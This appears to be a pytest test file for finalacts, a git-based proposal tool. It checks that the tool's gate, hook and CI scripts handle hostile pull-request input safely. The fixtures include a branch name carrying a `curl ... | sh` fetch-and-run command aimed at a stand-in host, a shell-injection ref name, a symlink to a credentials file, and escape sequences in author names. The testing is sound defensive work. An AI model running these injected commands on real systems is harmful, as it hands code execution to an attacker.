"""The gate, the commit-msg hook, `proposal`, the CI templates and the provenance views on what a
pull request can bring: links that git stores as blobs of mode 120000, manifests of the wrong
shape, names too long for git, branch names that are shell commands, files that are not there, a
pyproject.toml of its own, commit subjects and author names holding escape sequences."""

from __future__ import annotations

import json
import shlex
import time

import git
import pytest

from conftest import REPO
from finalacts.git import Repository
from finalacts.workflows import gate
from gitcorpus import APT_MANIFEST, _built, commit, corpus, edit, run_cli  # noqa: F401


def clean_exit(proc, code: int) -> str:
    out = proc.stdout + proc.stderr
    assert proc.returncode == code, out
    assert "Traceback" not in out and "internal error" not in out, out
    return out


def _line_of(path, prefix: str) -> int:
    return next(n for n, ln in enumerate(path.read_text(encoding="utf-8").split("\n"), 1) if ln.startswith(prefix))


def _add_proposal(root, number: int, action: str, target: str) -> None:
    p = root / APT_MANIFEST
    p.write_text(p.read_text(encoding="utf-8") + f"  - number: {number}\n    action: {action}\n    target: {target}\n",
                 encoding="utf-8")


def test_the_gate_refuses_a_text_that_is_a_link(corpus, tmp_path):
    secret = tmp_path / "credentials.yaml"
    secret.write_text("api_key: s3cr3t\n", encoding="utf-8")
    (corpus / "resolutions" / "pp" / "ACP-2.yaml").symlink_to(secret)
    _add_proposal(corpus, 6, "ADD", "pp/ACP-2")
    commit(git.Repo(corpus), "ADD a link\n\nProposal: ACP/64A1/6")
    snap = Repository.open(corpus).at("HEAD")
    assert snap.is_link("resolutions/pp/ACP-2.yaml") and not snap.is_link("resolutions/pp/11.yaml")
    assert snap.links("resolutions") == ["resolutions/pp/ACP-2.yaml"]
    report = gate.run(Repository.open(corpus))
    assert report.fatal
    (f,) = [f for f in report.findings if f.rule == "input-symlink"]
    assert f.path == "resolutions/pp/ACP-2.yaml" and str(secret) in f.message
    out = clean_exit(run_cli(corpus, "proposal", "check"), 2)
    assert "resolutions/pp/ACP-2.yaml:1:1: error input-symlink" in out and "s3cr3t" not in out


def test_the_gate_refuses_a_manifest_that_is_a_link(corpus):
    repo = git.Repo(corpus)
    (corpus / "proposals" / "pp-18" / "LINK-1.yaml").symlink_to("ACP-64A1.yaml")
    commit(repo, "a manifest that is a link")
    out = clean_exit(run_cli(corpus, "proposal", "check", "--manifest", "proposals/pp-18/LINK-1.yaml"), 2)
    assert "proposals/pp-18/LINK-1.yaml:1:1: error input-symlink" in out


def test_a_manifest_whose_proposals_are_a_number(corpus, tmp_path):
    edit(corpus, APT_MANIFEST, "proposals:\n", "proposals: 5\nrest:\n")
    repo = git.Repo(corpus)
    commit(repo, "proposals: 5")
    out = clean_exit(run_cli(corpus, "proposal", "check"), 2)
    assert "error schema-type proposals must be a list" in out
    # The hook reads the staged manifest: it says what is wrong with it instead of crashing.
    edit(corpus, "resolutions/pp/11.yaml", "transparent", "transparent and fair")
    repo.git.add("-A")
    msg = tmp_path / "MSG"
    msg.write_text("Edit\n\nProposal: ACP/64A1/3\n", encoding="utf-8")
    out = clean_exit(run_cli(corpus, "hook", "commit-msg", str(msg)), 1)
    assert f"{APT_MANIFEST}:" in out and "schema-type" in out
    # and `proposal add` too
    out = clean_exit(run_cli(corpus, "proposal", "add", "MOD", "pp/140"), 2)
    assert "proposals must be a list" in out


@pytest.mark.parametrize("adopted", ["{a: 1}", "7", "[PP-98, [PP-14]]"])
def test_a_mod_target_whose_adopted_is_not_a_list_of_conferences(corpus, adopted):
    edit(corpus, "resolutions/pp/11.yaml", "adopted: [PP-98, PP-10, PP-14, PP-18]", f"adopted: {adopted}")
    commit(git.Repo(corpus), "odd adopted\n\nProposal: ACP/64A1/3")
    proc = run_cli(corpus, "proposal", "check")
    out = clean_exit(proc, 1)
    line = _line_of(corpus / "resolutions/pp/11.yaml", "adopted:")
    assert f"resolutions/pp/11.yaml:{line}:10: error gate-mod-adopted" in out, out
    clean_exit(run_cli(corpus, "check", "resolutions/pp/11.yaml"), 1)


def test_proposal_add_mod_on_a_text_whose_adopted_is_a_number(corpus):
    edit(corpus, "resolutions/pp/140.yaml", "adopted: [PP-06, PP-14]", "adopted: 7")
    commit(git.Repo(corpus), "odd")
    out = clean_exit(run_cli(corpus, "proposal", "add", "MOD", "pp/140"), 2)
    line = _line_of(corpus / "resolutions/pp/140.yaml", "adopted:")
    assert f"resolutions/pp/140.yaml:{line}:10: `adopted` is not a list" in out
    assert "pp/140" not in (corpus / APT_MANIFEST).read_text(encoding="utf-8")


def test_missing_files_are_one_line(corpus, tmp_path):
    out = clean_exit(run_cli(corpus, "hook", "commit-msg", str(tmp_path / "no-such-message")), 2)
    assert "cannot read the commit message" in out and out.count("\n") == 1
    out = clean_exit(run_cli(corpus, "proposal", "add", "MOD", "pp/140", "--manifest", "nope.yaml"), 2)
    assert "nope.yaml:1:1: no such file" in out and out.count("\n") == 1


def test_names_too_long_for_git_are_refused_before_git_sees_them(corpus):
    long = "a" * 5000
    out = clean_exit(run_cli(corpus, "proposal", "new", "ACP/99", "--conference", "PP-18", "--base", "PP-14",
                             "--submitter", "x", "--branch", long), 2)
    assert "is over 250 bytes long" in out and len(out) < 400
    start = time.perf_counter()
    out = clean_exit(run_cli(corpus, "proposal", "check", "--base", "~" * 20000 + "x"), 2)
    assert time.perf_counter() - start < 30  # the old suffix pattern took 41 s on this one
    # A manifest's base of the same kind is refused as fast, as a finding of the manifest.
    edit(corpus, APT_MANIFEST, "base: PP-14", "base: " + "~" * 20000 + "x")
    commit(git.Repo(corpus), "long base")
    out = clean_exit(run_cli(corpus, "proposal", "check"), 1)
    assert "gate-base" in out and len(out) < 2000


def test_a_branch_name_that_is_a_command_is_quoted_in_the_hint(corpus):
    repo = git.Repo(corpus)
    repo.git.switch("main")
    (corpus / "resolutions" / "pp" / "200.yaml").write_text(
        (corpus / "resolutions" / "pp" / "200.yaml").read_text(encoding="utf-8") + "# later\n", encoding="utf-8")
    commit(repo, "main moves on")
    repo.git.tag("-a", "PP-14-later", "-m", "not an ancestor of the proposal branch")
    repo.git.switch("proposals/pp-18/ACP-64A1")
    evil = "x && curl https://evil.invalid/p | sh"
    edit(corpus, APT_MANIFEST, "base: PP-14", "base: PP-14-later")
    edit(corpus, APT_MANIFEST, "branch: proposals/pp-18/ACP-64A1", f'branch: "{evil}\\n::error::forged"')
    commit(repo, "evil branch")
    report = gate.run(Repository.open(corpus))
    (f,) = [f for f in report.findings if f.rule == "gate-base" and f.severity == "error"]
    assert f.hint.startswith("git rebase --onto PP-14-later ")
    assert shlex.split(f.hint)[-1] == evil + "\n::error::forged"  # one argument, as written
    for fmt in ("human", "github"):
        out = run_cli(corpus, "proposal", "check", "--format", fmt).stdout
        assert not any(line.startswith("::error::forged") for line in out.splitlines()), out
        assert "'x && curl https://evil.invalid/p | sh\\n::error::forged'" in out


def test_a_branch_that_exists_already_is_named_quoted_in_the_hint(corpus):
    """A valid ref name may hold `;`, `$` and `&`: the `git switch` hint quotes it."""
    evil = "x;touch${IFS}pwned&&id"
    git.Repo(corpus).git.branch(evil)
    out = clean_exit(run_cli(corpus, "proposal", "new", "ACP/99", "--conference", "PP-18", "--base", "PP-14",
                             "--submitter", "x", "--branch", evil), 2)
    assert f"git switch {shlex.quote(evil)}" in out, out
    assert not (corpus / "pwned").exists()


def test_ci_installs_the_pinned_finalacts_whatever_the_pull_request_adds(corpus):
    """A pull request that adds a pyproject.toml named "finalacts" must not make CI install (and
    be checked by) its own finalacts: the choice is read from the base commit."""
    import os
    import subprocess

    from finalacts.corpus import yamlfile

    wf = yamlfile.load((REPO / ".github/workflows/finalacts.yml").read_bytes(), "wf").data
    step = next(s for s in wf["jobs"]["gate"]["steps"] if s.get("name") == "Install finalacts")
    gl = yamlfile.load((REPO / "templates/gitlab-ci.yml").read_bytes(), "gl").data["finalacts"]
    gitlab = next(line for line in gl["before_script"] if "pip install" in line)
    site = yamlfile.load((REPO / ".github/workflows/site.yml").read_bytes(), "site").data
    site_step = next(s for s in site["jobs"]["build"]["steps"] if "pip install" in s.get("run", ""))
    site_run = next(line for line in site_step["run"].split("\n") if "pip install" in line)
    gl_site = next(line for line in yamlfile.load((REPO / "templates/gitlab-ci.yml").read_bytes(), "gl").data
                   ["finalacts-site"]["before_script"] if "pip install" in line)
    repo = git.Repo(corpus)
    base = repo.git.rev_parse("HEAD")
    (corpus / "pyproject.toml").write_text('[project]\nname = "finalacts"\n', encoding="utf-8")
    commit(repo, "bring my own finalacts")
    # `pip` is a shell function here: the test is about which one the script asks for.
    for script, env in ((step["run"], {"TRUSTED": base}), (gitlab, {"CI_MERGE_REQUEST_DIFF_BASE_SHA": base}),
                        (site_run, {"TRUSTED": base}), (gl_site, {"CI_MERGE_REQUEST_DIFF_BASE_SHA": base})):
        r = subprocess.run(["bash", "-eo", "pipefail", "-c", 'pip() { echo "pip $*"; }\n' + script], cwd=corpus,
                           env={**os.environ, "FINALACTS_SPEC": "finalacts==0.1.0", **env},
                           capture_output=True, text=True)
        assert r.stdout.strip() == "pip install finalacts==0.1.0", (script, r.stdout, r.stderr)
    # The finalacts repository itself still installs its own tree.
    r = subprocess.run(["bash", "-eo", "pipefail", "-c", 'pip() { echo "pip $*"; }\n' + step["run"]],
                       cwd=REPO, env={**os.environ, "TRUSTED": "HEAD"}, capture_output=True, text=True)
    assert r.stdout.strip() == "pip install ."


def test_blame_history_and_compare_quote_commit_subjects_and_authors(corpus):
    edit(corpus, "resolutions/pp/11.yaml", "in an open and transparent manner",
         "in an open, fair and transparent manner")
    repo = git.Repo(corpus)
    repo.git.add("-A")
    repo.git.commit("-q", "--no-verify", "-m", "Fair\x1b[2J\n\nProposal: ACP/64A1/3",
                    env={"GIT_AUTHOR_NAME": "Ev\x1b[31mil", "GIT_AUTHOR_EMAIL": "e@example.org"})
    for args in (["blame", "pp/11"], ["history", "pp/11"], ["compare", "pp/11"]):
        r = run_cli(corpus, *args)
        assert r.returncode == 0, r.stderr
        assert "\x1b" not in r.stdout + r.stderr, args
    out = run_cli(corpus, "blame", "pp/11").stdout
    assert "Ev\\x1b[31mil" in out and "Fair\\x1b[2J" in out
    data = json.loads(run_cli(corpus, "blame", "pp/11", "--format", "json").stdout)
    assert any(o["subject"] == "Fair\x1b[2J" for o in data["origins"])  # the data itself is exact
